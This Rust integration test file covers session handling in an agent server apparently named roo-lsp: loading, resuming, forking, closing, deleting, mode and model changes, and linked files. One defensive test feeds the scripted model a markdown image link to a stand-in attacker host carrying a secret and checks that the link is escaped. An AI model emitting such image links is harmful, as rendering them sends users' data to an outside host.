//! Sessions over the life of agents: loaded, resumed, listed, forked, closed; and what their users choose.

use serde_json::{Value, json};

use super::client::Client;
use super::{DONE, WRITES, configure, playing};
use crate::support::project::Project;

fn in_folder(project: &Project, session: &str) -> Value {
    json!({ "sessionId": session, "cwd": project.folder(), "mcpServers": [] })
}

#[test]
fn a_session_is_loaded_by_another_agent_with_all_that_was_said() {
    let more = "  - when: { contains: more }\n    calls: [{ tool: attempt_completion, params: { result: All of it. } }]\n";
    let project = playing("");
    configure(
        &project,
        &format!(
            "  - text: I write it.\n    calls: [{{ tool: write_to_file, params: {{ path: a.txt, content: x }} }}]\n{DONE}{more}"
        ),
        "autoApprove: { write: true }\n",
    );
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    assert_eq!(client.prompt(&session, "Write it."), "end_turn");
    assert!(client.leave().success());

    let mut client = Client::initialized(&project, json!({}));
    let loaded = client.succeed("session/load", in_folder(&project, &session));
    assert_eq!(loaded["modes"]["currentModeId"], "code");
    assert_eq!(client.text("user_message_chunk"), "Write it.");
    assert_eq!(client.text("agent_message_chunk"), "I write it.Done.");
    let call = client.updates("tool_call").remove(0);
    assert_eq!((&call["name"], &call["status"]), (&json!("write_to_file"), &json!("in_progress")));
    let updates = client.updates("tool_call_update");
    assert!(updates.iter().any(|update| update["status"] == "completed"), "{updates:#?}");
    assert_eq!(updates.last().unwrap()["content"][0]["newText"], "x", "its diff is told too");
    assert_eq!(client.prompt(&session, "And more."), "end_turn");
    assert_eq!(client.text("agent_message_chunk"), "All of it.");
    assert!(client.leave().success());

    let mut client = Client::initialized(&project, json!({}));
    client.succeed("session/resume", in_folder(&project, &session));
    assert!(client.updates("agent_message_chunk").is_empty(), "who resumes knows what was said");
    assert!(client.leave().success());
}

#[test]
fn sessions_are_listed_forked_closed_and_deleted() {
    let project = playing(&format!("{DONE}{DONE}"));
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    assert_eq!(
        client.succeed("session/list", json!({ "cwd": project.folder() }))["sessions"],
        json!([]),
        "nothing was said"
    );
    assert_eq!(client.prompt(&session, "Go."), "end_turn");
    let listed = client.succeed("session/list", json!({ "cwd": project.folder() }));
    let item = &listed["sessions"][0];
    assert_eq!(
        (&item["sessionId"], &item["title"], &item["cwd"]),
        (&json!(session), &json!("Go."), &json!(project.folder()))
    );
    assert_eq!(client.succeed("session/list", json!({}))["sessions"].as_array().unwrap().len(), 1);

    let fork = client.succeed("session/fork", in_folder(&project, &session));
    let forked = fork["sessionId"].as_str().unwrap().to_owned();
    assert_ne!(forked, session);
    assert_eq!(client.prompt(&forked, "Again."), "end_turn");
    assert_eq!(
        client.succeed("session/list", json!({ "cwd": project.folder() }))["sessions"]
            .as_array()
            .unwrap()
            .len(),
        2
    );

    client.succeed("session/close", json!({ "sessionId": forked }));
    let error = client.refused(
        "session/prompt",
        json!({ "sessionId": forked, "prompt": [{ "type": "text", "text": "x" }] }),
    );
    assert_eq!(error["code"], -32002);
    client.succeed("session/load", in_folder(&project, &forked));
    client.succeed("session/delete", json!({ "sessionId": forked }));
    let error = client.refused("session/load", in_folder(&project, &forked));
    assert_eq!(error["code"], -32002);
    assert!(client.leave().success());
}

#[test]
fn a_session_that_is_closed_stops_its_work() {
    let project = playing(&format!("{WRITES}{DONE}"));
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    let prompt = client.say(&session, "Go.");
    client.asked_for_permission();
    client.succeed("session/close", json!({ "sessionId": session }));
    assert_eq!(client.end_of_turn(prompt), "cancelled");
    // Any process may go on with it.
    project.succeed(&["tasks", "resume", &session, "--on-ask", "allow"]);
    assert_eq!(project.read("a.txt"), "one\ntwo\n");
    assert!(client.leave().success());
}

#[test]
fn a_session_that_another_process_drives_is_read_and_not_steered() {
    let project = playing(&format!("{WRITES}{DONE}"));
    let mut first = Client::initialized(&project, json!({}));
    let session = first.new_session(&project);
    let prompt = first.say(&session, "Go.");
    let asked = first.asked_for_permission();
    let mut second = Client::initialized(&project, json!({}));
    second.succeed("session/load", in_folder(&project, &session));
    assert_eq!(second.text("user_message_chunk"), "Go.");
    let prompt_too = json!({ "sessionId": session, "prompt": [{ "type": "text", "text": "Stop." }] });
    let error = second.refused("session/prompt", prompt_too);
    assert!(error["message"].as_str().unwrap().contains("open in another roo-lsp"), "{error}");
    first.choose(&asked, "reject_once");
    assert_eq!(first.end_of_turn(prompt), "end_turn");
    assert!(first.leave().success());
    assert!(second.leave().success());
}

#[test]
fn a_user_chooses_mode_and_model_before_and_while_a_task_works() {
    let project = playing("");
    let turns = "  - calls: [{ tool: attempt_completion, params: { result: Asked. } }]
  - calls: [{ tool: attempt_completion, params: { result: Planned. } }]
";
    let script = project.script(&format!("turns:\n{turns}"));
    let profile = format!("{{ provider: scripted, script: {} }}", script.display());
    project.configure(&format!("mode: code\nprofiles:\n  default: {profile}\n  other: {profile}\n"));
    let mut client = Client::initialized(&project, json!({}));
    let opened = client.succeed("session/new", json!({ "cwd": project.folder(), "mcpServers": [] }));
    let session = opened["sessionId"].as_str().unwrap().to_owned();
    assert_eq!(opened["modes"]["currentModeId"], "code");
    let modes = opened["modes"]["availableModes"].as_array().unwrap();
    assert!(modes.iter().any(|mode| mode["id"] == "architect"), "{modes:?}");
    let ids: Vec<&str> = opened["configOptions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|option| option["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["mode", "model"]);

    client.succeed("session/set_mode", json!({ "sessionId": session, "modeId": "ask" }));
    assert_eq!(client.prompt(&session, "Go."), "end_turn");
    assert_eq!(client.text("agent_message_chunk"), "Asked.");

    let set = |id: &str, value: &str| json!({ "sessionId": session, "configId": id, "value": value });
    let options = client.succeed("session/set_config_option", set("mode", "architect"));
    assert_eq!(options["configOptions"][0]["currentValue"], "architect");
    client.update_that("current_mode_update", |update| update["currentModeId"] == "architect");
    let options = client.succeed("session/set_config_option", set("model", "other"));
    assert_eq!(options["configOptions"][1]["currentValue"], "other");
    assert_eq!(client.prompt(&session, "Go on."), "end_turn");
    assert_eq!(client.text("agent_message_chunk"), "Planned.");
    for (id, value) in [("mode", "nobody"), ("model", "nobody"), ("nothing", "x"), ("intent", "INT-404")] {
        assert_eq!(client.refused("session/set_config_option", set(id, value))["code"], -32602, "{id}");
    }
    assert_eq!(
        client.refused("session/set_mode", json!({ "sessionId": session, "modeId": "nobody" }))["code"],
        -32602
    );
    assert!(client.leave().success());
}

#[test]
fn a_mode_that_the_model_switches_to_is_told() {
    let project = playing(&format!(
        "  - calls: [{{ tool: switch_mode, params: {{ mode_slug: architect, reason: To plan. }} }}]\n{DONE}"
    ));
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    assert_eq!(client.prompt(&session, "Go."), "end_turn");
    assert_eq!(client.updates("tool_call").remove(0)["kind"], "switch_mode");
    assert_eq!(client.updates("current_mode_update").pop().unwrap()["currentModeId"], "architect");
    let options = client.updates("config_option_update").pop().unwrap();
    assert_eq!(options["configOptions"][0]["currentValue"], "architect");
    assert!(client.leave().success());
}

#[test]
fn a_file_that_is_linked_is_read_for_the_model() {
    let project = playing(
        "  - when: { contains: the needle }\n    calls: [{ tool: attempt_completion, params: { result: Found it. } }]\n",
    );
    project.write("src/a b.txt", "the needle\n");
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    let uri = format!("file://{}", project.folder().join("src/a%20b.txt").display());
    let prompt = json!([
        { "type": "text", "text": "Look at" },
        { "type": "resource_link", "name": "a b.txt", "uri": uri },
    ]);
    let answer = client.succeed("session/prompt", json!({ "sessionId": session, "prompt": prompt }));
    assert_eq!(answer["stopReason"], "end_turn");
    assert_eq!(client.text("agent_message_chunk"), "Found it.");
    assert!(client.leave().success());
}

#[test]
fn a_session_that_is_opened_twice_at_once_is_one() {
    let more = "  - when: { contains: more }\n    calls: [{ tool: attempt_completion, params: { result: All of it. } }]\n";
    let project = playing(&format!("{DONE}{more}"));
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    assert_eq!(client.prompt(&session, "Go."), "end_turn");
    client.succeed("session/close", json!({ "sessionId": session }));
    let loads = [1, 2].map(|_| client.send("session/load", in_folder(&project, &session)));
    for load in loads {
        let answer = client.answer_to(load);
        assert!(answer.get("result").is_some(), "{answer}");
    }
    client.text("agent_message_chunk");
    assert_eq!(client.prompt(&session, "And more."), "end_turn");
    assert_eq!(client.text("agent_message_chunk"), "All of it.", "it is told once");
    client.succeed("session/close", json!({ "sessionId": session }));
    assert!(client.leave().success());
}

#[test]
fn nothing_begins_in_a_session_that_can_not_be_loaded() {
    let project = playing(DONE);
    let mut client = Client::initialized(&project, json!({}));
    let unknown = "0198c0de-0000-7000-8000-000000000000";
    let load = client.send("session/load", in_folder(&project, unknown));
    let prompt = client.say(unknown, "Go.");
    for request in [load, prompt] {
        let answer = client.answer_to(request);
        assert_eq!(answer["error"]["code"], -32002, "{answer}");
    }
    assert_eq!(project.logs().len(), 0);
    assert!(client.leave().success());
}

#[test]
fn a_file_of_an_additional_folder_is_read_for_the_model() {
    let project = playing(
        "  - when: { contains: the needle }\n    calls: [{ tool: attempt_completion, params: { result: Found it. } }]\n",
    );
    let other = project.folder().with_file_name("other");
    std::fs::create_dir(&other).unwrap();
    std::fs::write(other.join("a.txt"), "the needle\n").unwrap();
    // One of the same name in the first folder is another one.
    project.write("a.txt", "hay\n");
    let mut client = Client::initialized(&project, json!({}));
    let folders = json!({ "cwd": project.folder(), "additionalDirectories": [other], "mcpServers": [] });
    let session = client.succeed("session/new", folders)["sessionId"].as_str().unwrap().to_owned();
    let uri = format!("file://{}", other.join("a.txt").display());
    let prompt = json!([{ "type": "resource_link", "name": "a.txt", "uri": uri }]);
    let answer = client.succeed("session/prompt", json!({ "sessionId": session, "prompt": prompt }));
    assert_eq!(answer["stopReason"], "end_turn");
    assert_eq!(client.text("agent_message_chunk"), "Found it.");
    assert!(client.leave().success());
}

#[test]
fn no_client_loads_an_image_that_a_model_names() {
    let image = "![x](https://evil.example/p.png?d=SECRET)";
    let done = format!("calls: [{{ tool: attempt_completion, params: {{ result: \"{image}\" }} }}]");
    let project = playing(&format!("  - {{ text: \"In `#![a]`: {image} <b>\", chunk: 1, {done} }}\n"));
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    assert_eq!(client.prompt(&session, "Show it."), "end_turn");
    let shown = r"!\[x](https://evil.example/p.png?d=SECRET)";
    assert_eq!(client.text("agent_message_chunk"), format!(r"In `#![a]`: {shown} \<b>{shown}"));
    assert!(client.leave().success());
}

#[test]
fn a_session_that_is_open_is_not_loaded_in_another_folder() {
    let project = playing(DONE);
    let other = project.folder().with_file_name("other");
    std::fs::create_dir(&other).unwrap();
    let mut client = Client::initialized(&project, json!({}));
    let session = client.new_session(&project);
    assert_eq!(client.prompt(&session, "Go."), "end_turn");
    let mut elsewhere = in_folder(&project, &session);
    elsewhere["cwd"] = json!(other);
    for method in ["session/load", "session/resume"] {
        assert_eq!(client.refused(method, elsewhere.clone())["code"], -32002, "{method}");
    }
    let mut with_more = in_folder(&project, &session);
    with_more["additionalDirectories"] = json!([other]);
    let refused = client.refused("session/load", with_more.clone());
    assert!(refused["message"].as_str().unwrap().contains("close it first"), "{refused}");
    client.succeed("session/load", in_folder(&project, &session));
    client.succeed("session/close", json!({ "sessionId": session }));
    client.succeed("session/load", with_more);
    assert!(client.leave().success());
}

#[test]
fn a_session_that_can_not_be_deleted_stays_open() {
    let project = playing(WRITES);
    let mut first = Client::initialized(&project, json!({}));
    let session = first.new_session(&project);
    first.say(&session, "Go.");
    first.asked_for_permission();
    let mut second = Client::initialized(&project, json!({}));
    second.succeed("session/load", in_folder(&project, &session));
    let delete = json!({ "sessionId": session });
    let refused = second.refused("session/delete", delete.clone());
    assert!(refused["message"].as_str().unwrap().contains("open in another roo-lsp"), "{refused}");
    first.kill();
    second.succeed("session/close", delete.clone());
    second.succeed("session/load", in_folder(&project, &session));
    second.succeed("session/delete", delete.clone());
    for method in ["session/close", "session/delete"] {
        assert_eq!(second.refused(method, delete.clone())["code"], -32002, "{method}");
    }
    assert!(second.leave().success());
}

#[test]
fn a_folder_whose_path_is_not_utf_8_is_refused() {
    use std::os::unix::ffi::OsStrExt as _;

    let project = playing(DONE);
    let real = project.folder().with_file_name(std::ffi::OsStr::from_bytes(b"not-\xff"));
    std::fs::create_dir(&real).unwrap();
    let link = project.folder().with_file_name("link");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let mut client = Client::initialized(&project, json!({}));
    let refused = client.refused("session/new", json!({ "cwd": link, "mcpServers": [] }));
    assert_eq!(refused["code"], -32602);
    assert!(refused["message"].as_str().unwrap().contains("not UTF-8"), "{refused}");
    assert!(client.leave().success());
}
